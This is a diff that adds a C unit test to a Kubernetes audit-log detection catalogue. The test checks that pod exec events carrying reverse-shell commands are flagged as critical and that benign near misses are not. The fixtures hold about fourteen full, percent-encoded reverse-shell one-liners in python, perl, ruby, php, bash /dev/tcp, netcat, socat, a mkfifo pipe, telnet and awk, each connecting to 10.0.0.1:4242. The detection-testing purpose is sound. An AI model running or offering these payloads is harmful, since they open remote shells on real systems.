@@ -1127,6 +1127,92 @@ START_TEST(probing_burst_from_panther_event)
 }
 END_TEST
 
+/* ---- interactive_access: reverse shells in exec commands ---- */
+
+#define EXEC_EVENT                                                                         \
+	"{'verb':'create','user':{'username':'dev@example.com'},'sourceIPs':['10.1.2.3'],"    \
+	"'objectRef':{'resource':'pods','subresource':'exec','namespace':'prod','name':"      \
+	"'web-1'},'responseStatus':{'code':101},'stage':'ResponseStarted','requestURI':"      \
+	"'/api/v1/namespaces/prod/pods/web-1/exec?%s&container=web&stdin=true&tty=true'}"
+
+START_TEST(exec_reverse_shells)
+{
+	/* the cheat sheets' forms, as kubectl encodes them: one command=
+	 * parameter per argument, percent- or plus-encoded */
+	static const struct { const char *query, *form; } cases[] = {
+		{ "command=python3&command=-c&command=import%20socket%2Csubprocess%2Cos%3Bs%3D"
+		  "socket.socket%28socket.AF_INET%2Csocket.SOCK_STREAM%29%3Bs.connect%28%28%22"
+		  "10.0.0.1%22%2C4242%29%29%3Bos.dup2%28s.fileno%28%29%2C0%29%3Bimport%20pty%3B"
+		  "pty.spawn%28%22%2Fbin%2Fsh%22%29", "python socket" },
+		{ "command=perl&command=-e&command=use%20Socket%3B%24i%3D%2210.0.0.1%22%3B%24p%3D"
+		  "4242%3Bsocket%28S%2CPF_INET%2CSOCK_STREAM%2Cgetprotobyname%28%22tcp%22%29%29%3B"
+		  "if%28connect%28S%2Csockaddr_in%28%24p%2Cinet_aton%28%24i%29%29%29%29%7Bopen%28"
+		  "STDIN%2C%22%3E%26S%22%29%3Bexec%28%22%2Fbin%2Fsh%20-i%22%29%3B%7D%3B",
+		  "perl socket" },
+		{ "command=ruby&command=-rsocket&command=-e&command=f%3DTCPSocket.open%28%22"
+		  "10.0.0.1%22%2C4242%29.to_i%3Bexec%20sprintf%28%22%2Fbin%2Fsh%20-i%20%3C%26%25d"
+		  "%20%3E%26%25d%202%3E%26%25d%22%2Cf%2Cf%2Cf%29", "ruby socket" },
+		{ "command=php&command=-r&command=%24sock%3Dfsockopen%28%2210.0.0.1%22%2C4242%29"
+		  "%3Bexec%28%22%2Fbin%2Fsh%20-i%20%3C%263%20%3E%263%202%3E%263%22%29%3B",
+		  "php socket" },
+		{ "command=sh&command=-c&command=bash%20-i%20%3E%26%20%2Fdev%2Ftcp%2F10.0.0.1%2F"
+		  "4242%200%3E%261", "/dev/tcp" },
+		{ "command=bash&command=-c&command=bash+-i+%3E%26+%2Fdev%2Fudp%2F10.0.0.1%2F4242+"
+		  "0%3E%261", "/dev/tcp" },
+		{ "command=nc&command=10.0.0.1&command=4242&command=-e&command=%2Fbin%2Fsh",
+		  "netcat -e" },
+		{ "command=%2Fusr%2Fbin%2Fncat&command=10.0.0.1&command=4242&command=--sh-exec"
+		  "&command=sh", "netcat -e" },
+		{ "command=busybox&command=nc&command=10.0.0.1&command=4242&command=-e"
+		  "&command=sh", "netcat -e" },
+		{ "command=socat&command=tcp%3A10.0.0.1%3A4242&command=EXEC%3A%2Fbin%2Fsh%2Cpty",
+		  "socat exec" },
+		{ "command=sh&command=-c&command=rm%20%2Ftmp%2Ff%3Bmkfifo%20%2Ftmp%2Ff%3Bcat%20"
+		  "%2Ftmp%2Ff%7C%2Fbin%2Fsh%20-i%202%3E%261%7Cnc%2010.0.0.1%204242%20%3E%2Ftmp%2Ff",
+		  "fifo pipe" },
+		{ "command=sh&command=-c&command=sh+-i+%3C%263+%3E%263+2%3E%263",
+		  "interactive shell redirected" },
+		{ "command=sh&command=-c&command=telnet+10.0.0.1+4242+%7C+%2Fbin%2Fbash+%7C+"
+		  "telnet+10.0.0.1+4243", "shell piped to the network" },
+		{ "command=awk&command=BEGIN%7Bs%3D%22%2Finet%2Ftcp%2F0%2F10.0.0.1%2F4242%22%7D",
+		  "awk /inet" },
+	};
+	/* near misses: a shell, an interpreter, a network tool, each alone */
+	static const char *const benign[] = {
+		"command=bash&command=-i",
+		"command=python3&command=-c&command=import+socket%3Bprint%28socket.gethostname"
+		"%28%29%29",
+		"command=nc&command=-z&command=-v&command=db&command=5432",
+		"command=sh&command=-c&command=nc+-z+db+5432%3B+grep+-e+db+%2Fetc%2Fhosts",
+		"command=socat&command=tcp-listen%3A8080%2Cfork&command=tcp%3Adb%3A5432",
+		"command=mkfifo&command=%2Ftmp%2Flogpipe",
+		"command=sh&command=-c&command=echo+ready+%7C+nc+10.0.0.1+9000",
+		"command=perl&command=-e&command=print+%22socket%22",
+	};
+	char ev[2048];
+	const char *v;
+	size_t i;
+
+	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
+		snprintf(ev, sizeof(ev), EXEC_EVENT, cases[i].query);
+		judge(ev);
+		v = flagged("interactive_access", "critical");
+		expect_has(v, "evidence.commandFindings", "reverse-shell");
+		expect(v, "evidence.reverseShell", cases[i].form);
+		expect_reason(v, "command opens a reverse shell (");
+		expect_reason(v, cases[i].form);
+	}
+	for (i = 0; i < sizeof(benign) / sizeof(benign[0]); i++) {
+		snprintf(ev, sizeof(ev), EXEC_EVENT, benign[i]);
+		judge(ev);
+		v = flagged("interactive_access", "high");
+		ck_assert_msg(!tu_json_array_has(v, "evidence.commandFindings", "reverse-shell"),
+			      "%s: %s", benign[i], v);
+		ck_assert_msg(tu_json_get(v, "evidence.reverseShell") == NULL, "%s", benign[i]);
+	}
+}
+END_TEST
+
 static Suite *suite(void)
 {
 	Suite *s = suite_create("catalogue");
@@ -1180,6 +1266,11 @@ static Suite *suite(void)
 	tcase_add_test(tc, new_user_agent);
 	tcase_add_test(tc, secret_burst);
 	tcase_add_test(tc, probing_burst_from_panther_event);
+	suite_add_tcase(s, tc);
+
+	tc = tcase_create("coverage");
+	tcase_add_checked_fixture(tc, NULL, teardown);
+	tcase_add_test(tc, exec_reverse_shells);
 	suite_add_tcase(s, tc);
 	return s;
 }
